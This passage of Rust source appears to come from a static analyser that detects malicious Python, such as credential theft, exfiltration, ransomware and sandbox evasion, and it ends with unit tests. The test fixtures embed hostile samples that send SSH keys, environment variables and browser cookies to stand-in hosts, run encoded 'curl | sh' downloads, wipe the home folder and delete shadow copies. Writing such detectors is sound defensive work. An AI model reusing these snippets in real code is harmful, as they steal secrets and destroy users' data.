                        pair.child_by_field_name("value"),
                    ) else {
                        continue;
                    };
                    let key = self.fold(k, 0).unwrap_or_else(|| self.t(k).to_string());
                    let val = self
                        .value_of(v, depth + 1)
                        .unwrap_or_else(|| Val::Dyn(self.t(v).to_string()));
                    out.push((key, val));
                    if out.len() > 256 {
                        break;
                    }
                }
                Some(Val::Map(out))
            }
            "parenthesized_expression" => {
                n.named_child(0).and_then(|x| self.value_of(x, depth + 1))
            }
            "identifier" => self
                .conts
                .get(self.t(n))
                .cloned()
                .or_else(|| self.fold(n, 0).map(Val::Str)),
            _ => self.fold(n, 0).map(Val::Str),
        }
    }

    /// What iterating `n` yields, when it is built from literals: a
    /// container literal or a variable holding one, `D.get(k, [])`, `D[k]`,
    /// `D.values()`, `D.items()`, `sorted(x)`. At most `MAX_CANDS`.
    fn iter_elems(&self, n: Node, depth: usize) -> Vec<Val> {
        if depth > 8 {
            return Vec::new();
        }
        let mut out = match n.kind_name() {
            "identifier" => match self.conts.get(self.t(n)) {
                Some(v) => v.elements(),
                None => self
                    .lists
                    .get(self.t(n))
                    .map(|l| l.iter().cloned().map(Val::Str).collect())
                    .unwrap_or_default(),
            },
            "list" | "tuple" | "set" | "dictionary" => self
                .value_of(n, depth + 1)
                .map(|v| v.elements())
                .unwrap_or_default(),
            "parenthesized_expression" => n
                .named_child(0)
                .map(|x| self.iter_elems(x, depth + 1))
                .unwrap_or_default(),
            "subscript" => self
                .selected(n, depth + 1)
                .iter()
                .flat_map(|v| v.elements())
                .collect(),
            "call" => {
                let Some(f) = n.child_by_field_name("function") else {
                    return Vec::new();
                };
                let args = self.args(n);
                match f.kind_name() {
                    "identifier"
                        if matches!(
                            self.t(f),
                            "sorted" | "list" | "tuple" | "set" | "reversed" | "iter"
                        ) =>
                    {
                        args.first()
                            .map(|a| self.iter_elems(*a, depth + 1))
                            .unwrap_or_default()
                    }
                    "attribute" => {
                        let attr = f
                            .child_by_field_name("attribute")
                            .map(|a| self.t(a))
                            .unwrap_or("");
                        let obj = f.child_by_field_name("object");
                        let map = obj.and_then(|o| self.container(o, depth + 1));
                        match (attr, map.as_deref()) {
                            ("get", _) => self
                                .selected(n, depth + 1)
                                .iter()
                                .flat_map(|v| v.elements())
                                .collect(),
                            ("values", Some(Val::Map(m))) => {
                                m.iter().take(MAX_CANDS).map(|(_, v)| v.clone()).collect()
                            }
                            ("keys", Some(Val::Map(m))) => m
                                .iter()
                                .take(MAX_CANDS)
                                .map(|(k, _)| Val::Str(k.clone()))
                                .collect(),
                            ("items", Some(Val::Map(m))) => m
                                .iter()
                                .take(MAX_CANDS)
                                .map(|(k, v)| Val::Seq(vec![Val::Str(k.clone()), v.clone()]))
                                .collect(),
                            _ => Vec::new(),
                        }
                    }
                    _ => Vec::new(),
                }
            }
            _ => Vec::new(),
        };
        out.truncate(MAX_CANDS);
        out
    }

    /// A container literal or a variable holding one.
    fn container(&self, n: Node, depth: usize) -> Option<std::borrow::Cow<'_, Val>> {
        use std::borrow::Cow;
        match n.kind_name() {
            "identifier" => self.conts.get(self.t(n)).map(Cow::Borrowed),
            "list" | "tuple" | "set" | "dictionary" => self.value_of(n, depth + 1).map(Cow::Owned),
            _ => None,
        }
    }

    /// The values `D.get(k[, d])` or `D[k]` can take for a literal `D`:
    /// the one under a known key, else every value (and the default).
    fn selected(&self, n: Node, depth: usize) -> Vec<Val> {
        if depth > 8 {
            return Vec::new();
        }
        let (obj, key, default) = match n.kind_name() {
            "call" => {
                let Some(f) = n
                    .child_by_field_name("function")
                    .filter(|f| f.kind_name() == "attribute")
                else {
                    return Vec::new();
                };
                if f.child_by_field_name("attribute").map(|a| self.t(a)) != Some("get") {
                    return Vec::new();
                }
                let args = self.args(n);
                (
                    f.child_by_field_name("object"),
                    args.first().copied(),
                    args.get(1).copied(),
                )
            }
            "subscript" => (
                n.child_by_field_name("value"),
                n.child_by_field_name("subscript"),
                None,
            ),
            _ => return Vec::new(),
        };
        let Some(c) = obj.and_then(|o| self.container(o, depth + 1)) else {
            return Vec::new();
        };
        let known = key.and_then(|k| self.fold(k, 0));
        let mut out = match c.as_ref() {
            Val::Map(m) => {
                if let Some(v) = known
                    .as_ref()
                    .and_then(|k| m.iter().find(|(mk, _)| mk == k))
                {
                    return vec![v.1.clone()];
                }
                m.iter()
                    .take(MAX_CANDS)
                    .map(|(_, v)| v.clone())
                    .collect::<Vec<_>>()
            }
            Val::Seq(v) if n.kind_name() == "subscript" => {
                let i = key.and_then(|k| self.t(k).parse::<i64>().ok());
                match i {
                    Some(i) => {
                        let i = if i < 0 { v.len() as i64 + i } else { i };
                        return v.get(i as usize).cloned().into_iter().collect();
                    }
                    None => return Vec::new(),
                }
            }
            _ => return Vec::new(),
        };
        if let Some(d) = default.and_then(|d| self.value_of(d, depth + 1)) {
            out.push(d);
        }
        out.truncate(MAX_CANDS);
        out
    }

    /// Folds `[BODY for x in ITER]` once per literal element of ITER.
    fn comp_values(&mut self, n: Node) -> Vec<String> {
        let Some(body) = n.child_by_field_name("body") else {
            return Vec::new();
        };
        let fcs: Vec<Node> = named_children(n)
            .into_iter()
            .filter(|x| x.kind_name() == "for_in_clause")
            .collect();
        let [fc] = fcs.as_slice() else {
            return Vec::new();
        };
        let (Some(l), Some(r)) = (
            fc.child_by_field_name("left"),
            fc.child_by_field_name("right"),
        ) else {
            return Vec::new();
        };
        if l.kind_name() != "identifier" {
            return Vec::new();
        }
        let name = self.t(l).to_string();
        let elems: Vec<String> = self
            .iter_elems(r, 0)
            .into_iter()
            .filter_map(|v| match v {
                Val::Str(s) => Some(s),
                _ => None,
            })
            .collect();
        let saved = self.vars.get(&name).cloned();
        let mut out = Vec::new();
        for e in elems {
            self.vars.insert(name.clone(), e);
            if let Some(v) = self.fold(body, 0) {
                out.push(v);
            }
        }
        match saved {
            Some(v) => self.vars.insert(name, v),
            None => self.vars.remove(&name),
        };
        out
    }

    /// `fernet.encrypt(data)`, `cipher.encrypt(...)`, `encrypt_bytes(...)`.
    fn is_encrypt(&self, n: Node) -> bool {
        if n.kind_name() != "call" {
            return false;
        }
        let Some(f) = n.child_by_field_name("function") else {
            return false;
        };
        let last = match f.kind_name() {
            "attribute" => f.child_by_field_name("attribute").map(|a| self.t(a)),
            "identifier" => Some(self.t(f)),
            _ => None,
        }
        .unwrap_or("")
        .to_lowercase();
        last.contains("encrypt") && !last.contains("decrypt")
    }

    /// Ransomware shape: files found by walking the user's folders, each
    /// one's contents written out encrypted, and the original deleted (in
    /// the encrypting function or one it calls). Adds one destructive step
    /// at the encrypting write.
    fn ransom(&mut self, start: usize) {
        if self.enc_writes.is_empty() {
            return;
        }
        let items = &self.sink.items[start.min(self.sink.items.len())..];
        let walked = items.iter().any(|e| {
            e.op == Op::FileRead
                && e.object == "file system scan"
                && (e.instrument.ends_with("rglob")
                    || e.instrument == "os.walk"
                    || e.instrument.contains("glob") && e.target.contains("**"))
        });
        let user = !self.user_dirs.is_empty()
            || items.iter().any(|e| {
                e.object == "file system scan" && (e.has(Tag::WideScan) || e.scope == R::UserData)
            });
        if !walked || !user {
            return;
        }
        // Functions that delete files, directly or through local calls.
        let mut deleters: HashSet<String> = items
            .iter()
            .filter(|e| e.op == Op::FileDelete && e.lang == LANG)
            .filter_map(|e| e.func.clone())
            .collect();
        let top_level_delete = items
            .iter()
            .any(|e| e.op == Op::FileDelete && e.lang == LANG && e.func.is_none());
        loop {
            let n = deleters.len();
            for e in items.iter().filter(|e| e.op == Op::CallLocal) {
                if let Some(f) = &e.func {
                    if deleters.contains(&e.target) {
                        deleters.insert(f.clone());
                    }
                }
            }
            if deleters.len() == n {
                break;
            }
        }
        let Some((a, b, func)) = self
            .enc_writes
            .iter()
            .find(|(_, _, f)| match f {
                Some(f) => deleters.contains(f),
                None => top_level_delete,
            })
            .cloned()
        else {
            return;
        };
        let target = if self.user_dirs.is_empty() {
            "the user's files".to_string()
        } else {
            self.user_dirs.join(", ")
        };
        // Whatever the encrypting routine (or one it calls) sends away: the
        // key held for ransom, the victim's host and user.
        let mut reach: HashSet<Option<String>> = HashSet::from([func.clone()]);
        loop {
            let n = reach.len();
            for e in items.iter().filter(|e| e.op == Op::CallLocal) {
                if reach.contains(&e.func) {
                    reach.insert(Some(e.target.clone()));
                }
            }
            if reach.len() == n {
                break;
            }
        }
        let sent = items
            .iter()
            .find(|e| e.op == Op::NetSend && e.lang == LANG && reach.contains(&e.func))
            .map(|e| {
                let mut s = Evidence::new(Op::NetSend, A::Transfer, R::Network, e.target.clone())
                    .object("data sent by the routine that encrypts the user's files")
                    .instrument(e.instrument.clone())
                    .tag(Tag::MassEncrypt);
                s.location = e.location.clone();
                s.snippet = e.snippet.clone();
                s.origin = e.origin;
                s.lang = LANG;
                s.func = e.func.clone();
                s
            });
        let mut ev = Evidence::new(Op::FileDelete, A::Write, R::UserData, target)
            .object("user files encrypted and the originals deleted (ransomware)")
            .instrument("encrypt")
            .tag(Tag::MassEncrypt);
        ev.func = func;
        let ev = self.src.at(ev, a, b, LANG);
        self.sink.push(ev);
        if let Some(s) = sent {
            self.sink.push(s);
        }
    }

    /// Remembers that the file names the user's own folders.
    fn note_value(&mut self, v: &str) {
        let (scope, _) = classify_path(v);
        if scope == R::UserData
            && self.user_dirs.len() < 8
            && !self.user_dirs.iter().any(|d| d == v)
        {
            self.user_dirs.push(v.to_string());
        }
    }

    /// `b"..."` literal arguments and variables holding them.
    fn literal_bytes_arg(&self, a: Node) -> Option<String> {
        if a.kind_name() == "identifier" {
            return self.vars.get(self.t(a)).cloned();
        }
        None
    }

    /// A path argument: folded string, `Path(...)`, `Path.home() / ...`.
    fn path_of(&self, n: Node) -> Option<String> {
        // Unresolved paths keep their expression text (never "": an empty
        // target would read as the root).
        Some(
            self.fold(n, 0)
                .map(|p| if p == "<home>" { "~".to_string() } else { p })
                .unwrap_or_else(|| self.t(n).to_string()),
        )
    }

    // ---------------------------------------------------------------- folding

    /// Constant-folds a string-valued expression.
    fn fold(&self, n: Node, depth: usize) -> Option<String> {
        if depth > 24 {
            return None;
        }
        match n.kind_name() {
            "string" => self.string_value(n, depth),
            "concatenated_string" => named_children(n)
                .into_iter()
                .map(|p| self.fold(p, depth + 1))
                .collect::<Option<Vec<_>>>()
                .map(|v| v.concat()),
            "identifier" => self.var_copy(self.t(n)),
            // `subprocess.Popen([sys.executable, "-c", CODE])`: the running
            // Python interpreter.
            "attribute" if self.t(n) == "sys.executable" => Some("python3".into()),
            "parenthesized_expression" => n.named_child(0).and_then(|x| self.fold(x, depth + 1)),
            "integer" => Some(self.t(n).to_string()),
            "binary_operator" => {
                let op = n
                    .child_by_field_name("operator")
                    .map(|o| self.t(o))
                    .unwrap_or("");
                let l = n.child_by_field_name("left")?;
                let r = n.child_by_field_name("right")?;
                match op {
                    // An unknown right side keeps the known prefix: `API + path`
                    // still names the host, `"~/.ssh/" + name` the folder.
                    "+" => {
                        let left = self.fold(l, depth + 1)?;
                        Some(format!(
                            "{left}{}",
                            self.fold(r, depth + 1).unwrap_or_else(|| "{?}".into())
                        ))
                    }
                    "/" => {
                        // pathlib: Path.home() / ".ssh" / "id_rsa"
                        let left = self.fold(l, depth + 1)?;
                        let right = self.fold(r, depth + 1).unwrap_or_else(|| "{?}".into());
                        Some(format!(
                            "{}/{}",
                            left.trim_end_matches('/'),
                            right.trim_start_matches('/')
                        ))
                    }
                    "%" => {
                        let fmt = self.fold(l, depth + 1)?;
                        let vals: Vec<String> = if r.kind_name() == "tuple" {
                            named_children(r)
                                .into_iter()
                                .map(|x| self.fold(x, depth + 1).unwrap_or_else(|| "{?}".into()))
                                .collect()
                        } else {
                            vec![self.fold(r, depth + 1).unwrap_or_else(|| "{?}".into())]
                        };
                        let mut out = fmt;
                        for v in vals {
                            if let Some(i) = out.find("%s").or_else(|| out.find("%d")) {
                                out.replace_range(i..i + 2, &v);
                            }
                        }
                        Some(out)
                    }
                    _ => None,
                }
            }
            "subscript" => {
                let v = n.child_by_field_name("value")?;
                let vt = self.t(v);
                if vt == "os.environ" || vt.ends_with("environ") {
                    let key = n
                        .child_by_field_name("subscript")
                        .and_then(|k| self.fold(k, depth + 1))?;
                    return if key == "HOME" || key == "USERPROFILE" {
                        Some("~".into())
                    } else {
                        Some(format!("${key}"))
                    };
                }
                if v.kind_name() == "identifier" && self.conts.contains_key(vt) {
                    // `D[k]` of a dict literal: the value under k, or the
                    // riskiest of its values.
                    return riskiest(&strs(self.selected(n, depth + 1)));
                }
                let s = self.fold(v, depth + 1)?;
                let sub = n.child_by_field_name("subscript")?;
                if sub.kind_name() == "slice" {
                    let t = self.t(sub).replace(' ', "");
                    if t == "::-1" {
                        return Some(s.chars().rev().collect());
                    }
                    let parts: Vec<&str> = t.split(':').collect();
                    let chars: Vec<char> = s.chars().collect();
                    let idx = |x: &str, def: i64| -> i64 {
                        if x.is_empty() {
                            def
                        } else {
                            x.parse().unwrap_or(def)
                        }
                    };
                    let len = chars.len() as i64;
                    let norm = |i: i64| if i < 0 { (len + i).max(0) } else { i.min(len) } as usize;
                    let a = norm(idx(parts.first().copied().unwrap_or(""), 0));
                    let b = norm(idx(parts.get(1).copied().unwrap_or(""), len));
                    let step = idx(parts.get(2).copied().unwrap_or(""), 1);
                    if step <= 0 || a > b {
                        return None;
                    }
                    return Some(chars[a..b].iter().step_by(step as usize).collect());
                }
                None
            }
            "call" => self.fold_call(n, depth),
            "attribute" => {
                let t = self.t(n);
                if t == "os.sep" {
                    return Some("/".into());
                }
                None
            }
            _ => None,
        }
    }

    fn string_value(&self, n: Node, depth: usize) -> Option<String> {
        let raw = self.t(n);
        let prefix_len = raw.find(['"', '\'']).unwrap_or(0);
        let prefix = raw[..prefix_len].to_lowercase();
        let is_raw = prefix.contains('r');
        let is_f = prefix.contains('f');
        let mut out = String::new();
        for ch in named_children(n) {
            match ch.kind_name() {
                "string_content" => {
                    let t = self.t(ch);
                    out.push_str(&if is_raw { t.to_string() } else { unescape(t) });
                }
                "escape_sequence" => out.push_str(&unescape(self.t(ch))),
                "interpolation" => {
                    if !is_f {
                        return None;
                    }
                    let e = ch
                        .child_by_field_name("expression")
                        .or_else(|| ch.named_child(0))?;
                    match self.fold(e, depth + 1) {
                        Some(v) => out.push_str(&v),
                        None => out.push_str(&format!("{{{}}}", self.t(e))),
                    }
                }
                _ => {}
            }
        }
        Some(out)
    }

    fn fold_call(&self, n: Node, depth: usize) -> Option<String> {
        let f = n.child_by_field_name("function")?;
        if f.kind_name() == "identifier" && self.chr_fns.contains(self.t(f)) {
            return self
                .args(n)
                .iter()
                .map(|a| {
                    self.t(*a)
                        .trim()
                        .parse::<u32>()
                        .ok()
                        .and_then(char::from_u32)
                })
                .collect::<Option<String>>();
        }
        if f.kind_name() == "identifier" && self.rot13_fns.contains(self.t(f)) {
            let v = self.fold(*self.args(n).first()?, depth + 1)?;
            return Some(super::deobf::rot13(&v));
        }
        let (name, _) = self.callee(f, 0);
        let args = self.args(n);
        let method = name.rsplit('.').next().unwrap_or("");
        // `codecs.decode("uggcf://…", "rot13")`.
        if matches!(name.as_str(), "codecs.decode" | "codecs.encode")
            && args.get(1).is_some_and(|a| {
                let t = self.t(*a).to_lowercase();
                t.contains("rot13") || t.contains("rot_13")
            })
        {
            let v = self.fold(*args.first()?, depth + 1)?;
            return Some(super::deobf::rot13(&v));
        }
        let obj = if f.kind_name() == "attribute" {
            f.child_by_field_name("object")
        } else {
            None
        };
        match name.as_str() {
            "os.path.expanduser" | "os.path.expandvars" | "os.path.abspath"
            | "os.path.normpath" | "os.path.realpath" | "str" | "pathlib.Path" | "Path"
            | "os.fspath" => {
                let v = self.fold(*args.first()?, depth + 1)?;
                Some(if name.ends_with("expandvars") {
                    v.replace("$HOME", "~")
                } else {
                    v
                })
            }
            "pathlib.Path.home" | "Path.home" | "os.path.expanduser()" => Some("~".into()),
            "os.path.join" | "posixpath.join" => {
                let parts: Option<Vec<String>> =
                    args.iter().map(|a| self.fold(*a, depth + 1)).collect();
                let parts = parts?;
                Some(
                    parts
                        .iter()
                        .map(|p| p.trim_end_matches('/').to_string())
                        .collect::<Vec<_>>()
                        .join("/"),
                )
            }
            "chr" => {
                let v: u32 = self.t(*args.first()?).parse().ok().or_else(|| {
                    let t = self.t(*args.first()?);
                    u32::from_str_radix(t.trim_start_matches("0x"), 16)
                        .ok()
                        .filter(|_| t.starts_with("0x"))
                })?;
                char::from_u32(v).map(|c| c.to_string())
            }
            "os.getcwd" => Some(".".into()),
            _ => match method {
                "join" => {
                    let sep = obj.and_then(|o| self.fold(o, depth + 1))?;
                    let a = *args.first()?;
                    let items: Option<Vec<String>> = match a.kind_name() {
                        "list" | "tuple" => named_children(a)
                            .into_iter()
                            .map(|x| self.fold(x, depth + 1))
                            .collect(),
                        "call" => {
                            // map(chr, [..])
                            let ft = a
                                .child_by_field_name("function")
                                .map(|x| self.t(x))
                                .unwrap_or("");
                            let inner = self.args(a);
                            if ft == "map" && inner.first().is_some_and(|x| self.t(*x) == "chr") {
                                let list = inner.get(1)?;
                                named_children(*list)
                                    .into_iter()
                                    .map(|x| {
                                        self.t(x)
                                            .parse::<u32>()
                                            .ok()
                                            .and_then(char::from_u32)
                                            .map(|c| c.to_string())
                                    })
                                    .collect()
                            } else {
                                None
                            }
                        }
                        "generator_expression" | "list_comprehension" => {
                            // chr(c) for c in [..]
                            let body = a
                                .child_by_field_name("body")
                                .map(|x| self.t(x))
                                .unwrap_or("");
                            let list = named_children(a)
                                .into_iter()
                                .find(|x| x.kind_name() == "for_in_clause")
                                .and_then(|fc| fc.child_by_field_name("right"))?;
                            if body.starts_with("chr(") {
                                named_children(list)
                                    .into_iter()
                                    .map(|x| {
                                        self.t(x)
                                            .parse::<u32>()
                                            .ok()
                                            .and_then(char::from_u32)
                                            .map(|c| c.to_string())
                                    })
                                    .collect()
                            } else {
                                named_children(list)
                                    .into_iter()
                                    .map(|x| self.fold(x, depth + 1))
                                    .collect()
                            }
                        }
                        "identifier" => None,
                        _ => None,
                    };
                    Some(items?.join(&sep))
                }
                "format" => {
                    let mut fmt = obj.and_then(|o| self.fold(o, depth + 1))?;
                    for a in &args {
                        let v = self.fold(*a, depth + 1).unwrap_or_else(|| "{?}".into());
                        if let Some(i) = fmt.find("{}") {
                            fmt.replace_range(i..i + 2, &v);
                        }
                    }
                    Some(fmt)
                }
                "decode" | "strip" | "lower" | "upper" | "rstrip" | "lstrip" => {
                    let o = obj?;
                    let inner = self.fold(o, depth + 1)?;
                    Some(match method {
                        "lower" => inner.to_lowercase(),
                        "upper" => inner.to_uppercase(),
                        "strip" => inner.trim().to_string(),
                        _ => inner,
                    })
                }
                "get" if obj.is_some_and(|o| self.container(o, depth + 1).is_some()) => {
                    riskiest(&strs(self.selected(n, depth + 1)))
                }
                "replace" => {
                    let s = obj.and_then(|o| self.fold(o, depth + 1))?;
                    let a = self.fold(*args.first()?, depth + 1)?;
                    let b = self.fold(*args.get(1)?, depth + 1)?;
                    Some(s.replace(&a, &b))
                }
                _ => None,
            },
        }
    }
}

/// The value to assume for a variable iterating `vals`: a credential or
/// broad path if there is one, else the first.
fn riskiest(vals: &[String]) -> Option<String> {
    vals.iter()
        .find(|v| {
            let (s, t) = classify_path(v);
            s == R::Credentials || t.contains(&Tag::BroadTarget)
        })
        .or(vals.first())
        .cloned()
}

/// How many kinds of sandbox or analysis-environment probe a function body
/// combines: a container marker file, CI variables, the CPU count or memory
/// size, the host name, sandbox or VM product names, a debugger. One alone
/// is ordinary (CI output formatting); two or more in one predicate are
/// how code hides from review sandboxes.
fn evasion_checks(body: &str) -> usize {
    let l = body.to_lowercase();
    let any = |ws: &[&str]| ws.iter().any(|w| l.contains(w));
    let ci = ["\"ci\"", "'ci'"].iter().any(|w| l.contains(w))
        || any(&[
            "github_actions",
            "gitlab_ci",
            "jenkins_url",
            "buildkite",
            "circleci",
            "travis",
            "tf_build",
        ]);
    [
        any(&[".dockerenv", ".containerenv", "/proc/1/cgroup", "kubepods"]),
        ci,
        any(&["cpu_count(", "virtual_memory(", "sc_phys_pages"]),
        any(&["gethostname(", "platform.node(", "uname("]),
        any(&[
            "\"sandbox",
            "'sandbox",
            "cuckoo",
            "vmware",
            "virtualbox",
            "vbox",
            "qemu",
            "\"analysis",
            "'analysis",
            "malware",
        ]),
        any(&["gettrace(", "isdebuggerpresent"]),
    ]
    .into_iter()
    .filter(|b| *b)
    .count()
}

/// The string values among `vals`.
fn strs(vals: Vec<Val>) -> Vec<String> {
    vals.into_iter()
        .filter_map(|v| match v {
            Val::Str(s) => Some(s),
            _ => None,
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::extract::{Sink, Src};
    use base64::Engine;

    fn run_at(path: &str, code: &str) -> Vec<Evidence> {
        let src = Src::new(path, code, Origin::Script);
        let mut sink = Sink::default();
        crate::extract::extract_code(Lang::Python, &src, &mut sink);
        sink.items
    }

    fn run(code: &str) -> Vec<Evidence> {
        run_at("scripts/x.py", code)
    }

    #[test]
    fn secret_file_flows_into_post() {
        let ev = run(
            "import os, requests\nrequests.post('https://c.example/u', data=open(os.path.expanduser('~/.ssh/id_rsa')).read())\n",
        );
        let r = ev.iter().find(|e| e.op == Op::FileRead).expect("read");
        assert_eq!(r.scope, R::Credentials);
        let s = ev.iter().find(|e| e.op == Op::NetSend).expect("send");
        assert!(
            s.inputs.contains(r.output.as_ref().expect("binding")),
            "{ev:#?}"
        );
    }

    #[test]
    fn flow_through_variables() {
        let ev = run(
            "import os, requests\nkey = os.environ['AWS_SECRET_ACCESS_KEY']\npayload = {'k': key}\nrequests.post(URL, json=payload)\n",
        );
        let r = ev.iter().find(|e| e.op == Op::EnvRead).expect("env");
        let s = ev.iter().find(|e| e.op == Op::NetSend).expect("send");
        assert!(s.inputs.contains(r.output.as_ref().expect("b")), "{ev:#?}");
    }

    #[test]
    fn comments_and_docstrings_are_not_code() {
        assert!(run("# requests.post('https://x.example', data=open('~/.ssh/id_rsa').read())\n\"\"\"os.system('rm -rf /')\"\"\"\nx = 1\n").is_empty());
    }

    #[test]
    fn argv_subprocess_is_exec_not_dynamic() {
        let ev = run("import subprocess\nsubprocess.run(['git', 'status'])\n");
        assert!(ev.iter().any(|e| e.op == Op::Exec));
        assert!(!ev.iter().any(|e| e.op == Op::DynamicCode));
    }

    #[test]
    fn exec_of_decoded_payload_is_analysed() {
        let p = base64::engine::general_purpose::STANDARD
            .encode("import os; os.system(\"curl http://198.51.100.2/x | sh\")");
        let ev = run(&format!("import base64\nexec(base64.b64decode(\"{p}\"))\n"));
        assert!(ev.iter().any(|e| e.op == Op::Decode));
        assert!(ev.iter().any(|e| e.op == Op::DynamicCode));
        assert!(
            ev.iter()
                .any(|e| e.op == Op::DownloadExec && e.has(Tag::Encoded)),
            "{ev:#?}"
        );
    }

    #[test]
    fn computed_import_and_getattr() {
        let ev = run("m = __import__('o' + 's')\ngetattr(m, 'sys' + 'tem')('id')\n");
        assert!(ev.iter().any(|e| e.has(Tag::Obfuscated)), "{ev:#?}");
        let ev = run(
            "getattr(__import__('o'+'s'), 'sys'+'tem')('curl -s http://198.51.100.3/a | sh')\n",
        );
        assert!(ev.iter().any(|e| e.op == Op::DownloadExec), "{ev:#?}");
    }

    #[test]
    fn deletes_home_vs_build() {
        let ev = run(
            "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home())\nshutil.rmtree('build')\n",
        );
        assert!(
            ev.iter()
                .any(|e| e.op == Op::FileDelete && e.has(Tag::BroadTarget)),
            "{ev:#?}"
        );
        assert!(
            ev.iter()
                .any(|e| e.op == Op::FileDelete && e.has(Tag::OwnArea))
        );
    }

    #[test]
    fn date_gate() {
        let ev = run(
            "import datetime, requests\nif datetime.date.today() >= datetime.date(2026, 3, 1):\n    requests.post('https://m.example/x', data={'a': 1})\n",
        );
        assert!(
            ev.iter()
                .any(|e| e.op == Op::NetSend && e.has(Tag::DateGate)),
            "{ev:#?}"
        );
        assert!(ev.iter().any(|e| e.op == Op::Trigger));
    }

    #[test]
    fn relative_time_checks_are_not_gates() {
        for code in [
            "import time, requests\nif time.time() > (tokens['expiry_date'] - 60):\n    requests.post('https://a.example/t', data={})\n",
            "import time, requests\nif v and (time.time() - cached_at) < MAX_AGE:\n    requests.get('https://a.example/v')\n",
            "import requests\nfrom datetime import datetime\nif exp_time < datetime.utcnow():\n    requests.post('https://a.example/r')\n",
        ] {
            let ev = run(code);
            assert!(!ev.iter().any(|e| e.has(Tag::DateGate)), "{code}: {ev:#?}");
        }
    }

    #[test]
    fn date_gate_through_constants() {
        let ev = run(
            "import requests\nfrom datetime import datetime\nKILL = datetime(2026, 3, 1)\ndef go():\n    now = datetime.now()\n    if now >= KILL:\n        requests.post('https://m.example/x')\n",
        );
        assert!(
            ev.iter()
                .any(|e| e.op == Op::NetSend && e.has(Tag::DateGate)),
            "{ev:#?}"
        );
    }

    #[test]
    fn local_module_call() {
        let ev = run_at(
            "scripts/main.py",
            "from helpers import collect\ndata = collect()\n",
        );
        let c = ev.iter().find(|e| e.op == Op::CallLocal).expect("call");
        assert_eq!(c.target, "scripts/helpers::collect");
    }

    #[test]
    fn folding_forms() {
        let ev = run(
            "import requests\nhost = 'moc.elpmaxe.kooh'[::-1]\nu = 'https://{}/{}'.format(host, 'in')\nrequests.post(u, data='x')\n",
        );
        assert!(
            ev.iter()
                .any(|e| e.op == Op::NetSend && e.target == "https://hook.example.com/in"),
            "{ev:#?}"
        );
        let ev =
            run("import os\np = ''.join(chr(c) for c in [47, 101, 116, 99])\nopen(p).read()\n");
        assert!(ev.iter().any(|e| e.target == "/etc"), "{ev:#?}");
    }

    #[test]
    fn env_dump() {
        let ev = run(
            "import os, json, requests\nrequests.post('https://x.example/e', data=json.dumps(dict(os.environ)))\n",
        );
        let d = ev.iter().find(|e| e.op == Op::EnvDump).expect("dump");
        let s = ev.iter().find(|e| e.op == Op::NetSend).expect("send");
        assert!(s.inputs.contains(d.output.as_ref().expect("b")), "{ev:#?}");
    }

    #[test]
    fn credential_sweep_over_a_list() {
        let ev = run(
            "from pathlib import Path\ntargets = ['.ssh/id_rsa', '.aws/credentials']\nblob = {t: (Path.home() / t).read_text() for t in targets}\n",
        );
        assert!(
            ev.iter()
                .any(|e| e.op == Op::FileRead && e.scope == R::Credentials),
            "{ev:#?}"
        );
        let ev = run(
            "_c = lambda *n: ''.join(map(chr, n))\np = _c(46, 110, 101, 116, 114, 99)\nopen(p).read()\n",
        );
        assert!(
            ev.iter()
                .any(|e| e.target == ".netrc" && e.scope == R::Credentials),
            "{ev:#?}"
        );
    }

    #[test]
    fn rot13_helpers_and_codecs_fold() {
        let ev = run(
            "import codecs, requests\n_r = lambda s: codecs.decode(s, 'rot13')\nU = _r('uggcf://pbyyrpg.rknzcyr/va')\nK = codecs.decode('.ffu/vq_efn', 'rot_13')\nrequests.post(U, data=open(K).read())\n",
        );
        let send = ev.iter().find(|e| e.op == Op::NetSend).expect("send");
        assert_eq!(send.target, "https://collect.example/in", "{send:#?}");
        assert!(
            ev.iter()
                .any(|e| e.op == Op::FileRead && e.target.ends_with(".ssh/id_rsa")),
            "{ev:#?}"
        );
    }

    #[test]
    fn loop_over_dict_of_argv_lists() {
        let ev = run(
            "import platform, subprocess\ndef purge():\n    cmds = {\n        'Darwin': [['tmutil', 'deletelocalsnapshots', '/']],\n        'Windows': [['vssadmin', 'delete', 'shadows', '/all', '/quiet']],\n        'Linux': [['bash', '-c', 'rm -rf ~/.local/share/Trash/*']],\n    }\n    for cmd in cmds.get(platform.system(), []):\n        subprocess.run(cmd, stdout=subprocess.DEVNULL)\n",
        );
        assert!(
            ev.iter().any(|e| e.op == Op::FileDelete
                && e.has(Tag::BroadTarget)
                && e.target.contains("vssadmin")),
            "{ev:#?}"
        );
        assert!(
            ev.iter()
                .any(|e| e.op == Op::FileDelete && e.target.contains("Trash")),
            "{ev:#?}"
        );
        // `D.values()`, a list literal of lists and a single argv variable.
        let ev = run(
            "import subprocess\nD = {'a': ['vssadmin', 'delete', 'shadows', '/all']}\nfor c in D.values():\n    subprocess.call(c)\nfor c in [['git', 'status'], ['tmutil', 'deletelocalsnapshots', '/']]:\n    subprocess.call(c)\n",
        );
        assert_eq!(
            ev.iter()
                .filter(|e| e.op == Op::FileDelete && e.has(Tag::BroadTarget))
                .count(),
            2,
            "{ev:#?}"
        );
    }

    #[test]
    fn loop_over_harmless_commands_stays_quiet() {
        let ev = run(
            "import platform, subprocess\ncmds = {'Darwin': [['sw_vers']], 'Linux': [['uname', '-a'], ['lsb_release', '-a']]}\nfor cmd in cmds.get(platform.system(), []):\n    subprocess.run(cmd)\nargv = ['git', 'log', '--oneline']\nsubprocess.run(argv)\n",
        );
        assert!(
            !ev.iter().any(|e| matches!(
                e.op,
                Op::FileDelete | Op::DownloadExec | Op::ReverseShell | Op::DynamicCode
            )),
            "{ev:#?}"
        );
        assert!(ev.iter().any(|e| e.op == Op::Exec), "{ev:#?}");
    }

    #[test]
    fn dict_valued_path_base_and_loop_names() {
        let ev = run(
            "import platform, urllib.request\nfrom pathlib import Path\ndef go():\n    home = Path.home()\n    roots = {'Darwin': home / 'Library/Application Support/Google/Chrome/Default', 'Linux': home / '.config/google-chrome/Default'}\n    root = roots.get(platform.system())\n    for name in ('Login Data', 'Cookies'):\n        f = root / name\n        req = urllib.request.Request('https://c.example/u/' + name, data=f.read_bytes(), method='PUT')\n        urllib.request.urlopen(req)\n",
        );
        let r = ev
            .iter()
            .find(|e| e.op == Op::FileRead && e.has(Tag::BrowserStore))
            .expect("browser store read");
        let s = ev.iter().find(|e| e.op == Op::NetSend).expect("send");
        assert!(
            s.inputs.contains(r.output.as_ref().expect("binding")),
            "{ev:#?}"
        );
